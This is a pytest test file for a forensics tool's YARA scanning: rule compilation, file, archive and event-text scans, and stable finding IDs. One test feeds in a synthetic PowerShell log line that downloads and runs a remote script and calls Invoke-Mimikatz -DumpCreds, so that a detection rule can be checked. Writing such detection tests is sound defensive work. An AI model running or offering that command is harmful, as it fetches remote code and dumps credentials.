"""YARA: per-file compilation with externals, broken files reported, files and event text scanned."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

from forensics.hunt.yara_scan import compile_rules, file_type, scan_event_text, scan_files
from forensics.shipped import IOCS

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))  # tests/casekit.py
from casekit import at, build_case

RULE = """
rule Test_Generated_Marker
{
    meta:
        description = "marker planted by the test"
        score = 80
    strings:
        $m = "FORENSICS-TEST-MARKER-7f3a"
    condition:
        $m and filename matches /\\.bin$/ and extension == ".bin"
}
"""


def test_signature_base_compiles_with_externals(shared_data: Path) -> None:
    rules = compile_rules([shared_data / "signature-base" / "yara"])
    failed = [o for o in rules.outcomes if o.status == "failed"]
    loaded = [o for o in rules.outcomes if o.status == "loaded"]
    assert rules.rules is not None
    assert len(loaded) >= 700  # 741 files in the checkout used here
    assert len(failed) <= len(loaded) // 100, [(o.path, o.reason) for o in failed]
    assert all(o.reason for o in failed)


def test_include_dependent_files_reported_not_fatal(shared_data: Path) -> None:
    malware = shared_data / "yara-rules" / "malware"
    files = sorted(malware.glob("MALW_*ELF*.yar"))[:6] + sorted(malware.glob("RANSOM_*.yar"))[:5]
    rules = compile_rules(files)
    failed = [o for o in rules.outcomes if o.status == "failed"]
    assert rules.rules is not None and rules.compiled >= 5
    assert any("is__elf" in o.reason for o in failed)  # needs a rule from another file


def test_generated_file_hit_and_limits(tmp_path: Path) -> None:
    rule_dir = tmp_path / "rules"
    rule_dir.mkdir()
    (rule_dir / "good.yar").write_text(RULE)
    (rule_dir / "broken.yar").write_text("rule broken { condition: nosuchthing }")
    rules = compile_rules([rule_dir])
    assert {Path(o.path).name: o.status for o in rules.outcomes} == {
        "broken.yar": "failed",
        "good.yar": "loaded",
    }
    evidence = tmp_path / "evidence"
    evidence.mkdir()
    (evidence / "dropped.bin").write_bytes(b"\x00" * 100 + b"FORENSICS-TEST-MARKER-7f3a" + b"\x00" * 100)
    (evidence / "same-text.txt").write_bytes(b"FORENSICS-TEST-MARKER-7f3a")  # extension differs: no hit
    (evidence / "big.bin").write_bytes(b"FORENSICS-TEST-MARKER-7f3a" + b"\x00" * 5000)
    (evidence / "link.bin").symlink_to(evidence / "dropped.bin")
    with zipfile.ZipFile(evidence / "collection.zip", "w") as z:
        z.writestr("C/Users/Public/payload.bin", b"FORENSICS-TEST-MARKER-7f3a")
    result = scan_files(rules, [evidence], max_size=4096)
    assert [f.rule_id for f in result.findings] == ["Test_Generated_Marker"] * 2
    assert "collection.zip!" in (result.findings[0].details or "")  # an archive member, by name
    assert "dropped.bin" in (result.findings[1].details or "")
    assert result.findings[0].level == "high"
    assert [(Path(o.path).name, o.status) for o in result.outcomes] == [("big.bin", "skipped")]


def test_event_text_scanned_and_mapped_to_rows(tmp_path: Path, repo_root: Path) -> None:
    script = (
        "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1'); Invoke-Mimikatz -DumpCreds "
        + "#" * 40
    )
    events = [
        dict(
            host="WKS01",
            channel="Microsoft-Windows-PowerShell/Operational",
            event_id=4104,
            ts=at(i),
            ScriptBlockText=script,
            process_cmdline=script,
        )
        for i in range(3)
    ] + [
        dict(
            host="WKS02",
            channel="Security",
            event_id=4688,
            ts=at(9),
            process_cmdline="notepad.exe " + "a" * 80,
        )
    ]
    case = build_case(tmp_path / "case", events)
    rules = compile_rules([IOCS])
    result = scan_event_text(case, rules)
    hits = {(f.rule_id, f.host, len(f.records), f.level) for f in result.findings}
    assert hits == {("FORENSICS_Mimikatz_Commands", "WKS01", 3, "critical")}


def test_file_type() -> None:
    assert file_type(b"MZ\x90\x00") == "EXE"
    assert file_type(b"\x7fELF\x02") == "ELF"
    assert file_type(b"hello") == ""


def test_the_same_bytes_in_two_places_are_one_finding_listing_both(tmp_path: Path) -> None:
    rule_dir = tmp_path / "rules"
    rule_dir.mkdir()
    (rule_dir / "good.yar").write_text(RULE)
    evidence = tmp_path / "evidence"
    for host in ("WS01", "WS02"):
        (evidence / host).mkdir(parents=True)
        (evidence / host / "payload.bin").write_bytes(b"FORENSICS-TEST-MARKER-7f3a" * 3)
    (evidence / "WS02" / "other.bin").write_bytes(b"x FORENSICS-TEST-MARKER-7f3a")
    result = scan_files(compile_rules([rule_dir]), [evidence])
    assert len(result.findings) == 2
    both = next(f for f in result.findings if "copies" in f.summary)
    details = json.loads(both.details or "{}")
    assert [Path(p).parent.name for p in details["paths"]] == ["WS01", "WS02"]
    assert "path" not in details and details["size"] == 78


def _hunt_ids(cwd: Path, target: str, case: str, rules: Path) -> dict[str, str]:
    """finding id -> summary of a CLI hunt of ``target`` as typed, run in ``cwd``."""
    quiet = ("--no-default-sigma", "--no-default-queries", "--no-default-iocs", "--no-outputs", "--json")
    proc = subprocess.run(
        [sys.executable, "-m", "forensics", "hunt", target, "--case", case, "--yara", str(rules), *quiet],
        cwd=cwd, capture_output=True, text=True, timeout=300, check=False,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    return {f["finding_id"]: f["kind"] for f in map(json.loads, proc.stdout.splitlines())}


def test_finding_ids_do_not_depend_on_how_the_evidence_path_was_typed(tmp_path: Path) -> None:
    """`ev/`, `./ev`, the absolute path, a path through `..` and a copy of the evidence elsewhere:
    the same findings, with the same ids (YARA file hits on plain files and archive members, and
    YARA hits in event text)."""
    rules = tmp_path / "rules.yar"
    rules.write_text(RULE + '\nrule Test_Text_Marker { strings: $a = "TEXT-MARKER-91c" condition: $a }\n')
    ev = tmp_path / "work" / "ev"
    (ev / "C" / "Temp").mkdir(parents=True)
    (ev / "C" / "Temp" / "dropped.bin").write_bytes(b"\x00FORENSICS-TEST-MARKER-7f3a\x00")
    with zipfile.ZipFile(ev / "kape.zip", "w") as z:
        z.writestr("C/Users/Public/payload.bin", b"FORENSICS-TEST-MARKER-7f3a payload")
    (ev / "auth.log").write_text(
        "".join(
            f"Mar  6 10:00:{i:02d} web01 sshd[42]: session TEXT-MARKER-91c opened {'x' * 70}\n"
            for i in range(3)
        )
    )
    work = ev.parent
    first = _hunt_ids(work, "ev/", "c1", rules)
    assert sorted(first.values()) == ["yara", "yara", "yara"]
    assert _hunt_ids(work, "./ev", "c2", rules) == first
    assert _hunt_ids(tmp_path, str(ev.resolve()), "c3", rules) == first
    assert _hunt_ids(work / "ev" / "C", "../../ev/", str(tmp_path / "c4"), rules) == first
    copy = tmp_path / "elsewhere" / "evidence-copy"
    shutil.copytree(ev, copy)
    assert _hunt_ids(tmp_path, str(copy), "c5", rules) == first
